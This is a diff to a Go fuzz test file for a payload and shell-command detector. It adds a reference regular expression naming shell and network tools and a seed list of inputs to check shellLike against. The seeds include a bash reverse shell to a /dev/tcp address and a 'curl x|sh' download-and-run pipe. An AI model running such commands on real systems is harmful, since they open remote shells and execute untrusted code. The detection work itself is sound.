@@ -1,6 +1,7 @@
 package detect
 
 import (
+	"regexp"
 	"strings"
 	"testing"
 	"unicode/utf8"
@@ -19,8 +20,9 @@ func FuzzInlinePayload(f *testing.F) {
 		if pi == nil {
 			return
 		}
-		if len(pi.blobs) > maxBlobs {
-			t.Fatalf("%d blobs, want at most %d", len(pi.blobs), maxBlobs)
+		// One blob per class (encoding, kind, inner kind) at most.
+		if most := len(Encodings) * len(PayloadKinds) * (len(PayloadKinds) + 1); len(pi.blobs) > most {
+			t.Fatalf("%d blobs, want at most %d", len(pi.blobs), most)
 		}
 		if p := pi.best(); p != nil {
 			if !utf8.ValidString(p.Preview) || strings.ContainsFunc(p.Preview, func(r rune) bool { return r < 0x20 || r > 0x7e }) {
@@ -66,6 +68,23 @@ func FuzzArgvMatch(f *testing.F) {
 			if a.Signature.Name == "" || len(a.Matches) == 0 {
 				t.Fatalf("alert %+v without a signature or matches", a)
 			}
+		}
+	})
+}
+
+// shellRefRe is the regular expression shellLike replaced, kept as its
+// reference.
+var shellRefRe = regexp.MustCompile(`(?:^|[\s;|&(` + "`" + `])(?:curl|wget|bash|sh|nc|ncat|socat|chmod|rm|python[0-9.]*|perl|ruby|php|exec|eval|mkfifo|crontab|base64|whoami|uname|id|cat|echo|export|nohup|kill|useradd|iptables|dd)(?:\s|$|;)|/dev/tcp/|\$\(|\|\s*(?:ba)?sh\b`)
+
+// FuzzShellLike checks shellLike against the regular expression it
+// replaced.
+func FuzzShellLike(f *testing.F) {
+	for _, s := range []string{"bash -i >& /dev/tcp/203.0.113.5/4444 0>&1", "curl x|sh", "python3.12 -c", "pythonx", "id;", "id|", "| bash", "|bashx", "echo $(id)", "hello world", "iptablesx y", "x\vid", "ab(rm", "sh"} {
+		f.Add(s)
+	}
+	f.Fuzz(func(t *testing.T, s string) {
+		if got, want := shellLike(s), shellRefRe.MatchString(s); got != want {
+			t.Fatalf("shellLike(%q) = %v, want %v", s, got, want)
 		}
 	})
 }
